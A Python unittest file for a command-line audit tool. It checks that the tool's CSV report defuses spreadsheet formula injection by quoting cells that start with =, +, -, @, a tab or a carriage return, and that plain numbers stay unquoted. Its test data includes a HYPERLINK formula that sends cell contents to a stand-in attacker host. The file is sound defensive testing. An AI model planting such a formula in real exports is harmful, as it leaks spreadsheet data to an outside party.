"""--format csv read by Python's csv module: the columns of the JSON rows, and no cell a spreadsheet would run as a
formula (OWASP CSV injection: a cell starting with = + - @, a tab or a carriage return gets a leading '), while
plain numbers stay numbers."""
import csv
import io
import json
import os
import tempfile
import unittest

import opftest

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


class CsvReport(unittest.TestCase):
    def test_no_formula_cells(self):
        tmp = tempfile.mkdtemp(prefix="opf-csv-")
        doc = opftest.load_json(os.path.join(opftest.SOURCE_DIR, "examples", "evidence.json"))
        members = [a for a in doc["accounts"] if not a.get("is_management")]
        for a, name in zip(members, FORMULAS):
            a["name"] = name
        bundle = os.path.join(tmp, "bundle.json")
        with open(bundle, "w") as f:
            json.dump(doc, f)
        out = os.path.join(tmp, "report.csv")
        r = opftest.run_cli(["audit", "--evidence", bundle, "--config",
                             os.path.join(opftest.SOURCE_DIR, "examples", "config.json"), "--now",
                             "2026-11-25T09:00:00Z", "--format", "json", "-o", os.path.join(tmp, "report.json"),
                             "--format", "csv", "-o", out])
        self.assertIn(r.returncode, (0, 1, 2), r.stderr)
        report = opftest.load_json(os.path.join(tmp, "report.json"))
        with open(out, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[0], ["check", "title", "subject_type", "subject_id", "subject_name", "status",
                                   "severity", "gating", "message", "evidence", "remediation", "waiver"])
        self.assertEqual(len(rows) - 1, len(report["results"]))
        for row in rows:
            for cell in row:
                if cell and cell[0] in "=+-@\t\r":
                    self.fail("a formula cell: %r" % cell)
        names = {row[4] for row in rows[1:]}
        for name in FORMULAS:
            self.assertIn("'" + name, names)  # kept whole, behind the quote
        for row, x in zip(rows[1:], report["results"]):
            self.assertEqual(row[7], "true" if x["gating"] else "false")

    def test_plain_numbers_stay_numbers(self):
        # a negative number is data, not a formula: no quote in front of it
        tmp = tempfile.mkdtemp(prefix="opf-csv-")
        doc = opftest.load_json(os.path.join(opftest.SOURCE_DIR, "examples", "evidence.json"))
        doc["accounts"][1]["name"] = "-42.5"
        doc["accounts"][2]["name"] = "+7"
        bundle = os.path.join(tmp, "bundle.json")
        with open(bundle, "w") as f:
            json.dump(doc, f)
        r = opftest.run_cli(["audit", "--evidence", bundle, "--now", "2026-11-25T09:00:00Z", "--format", "csv"])
        rows = list(csv.reader(io.StringIO(r.stdout)))
        names = {row[4] for row in rows[1:]}
        self.assertIn("-42.5", names)
        self.assertIn("+7", names)


if __name__ == "__main__":
    unittest.main()
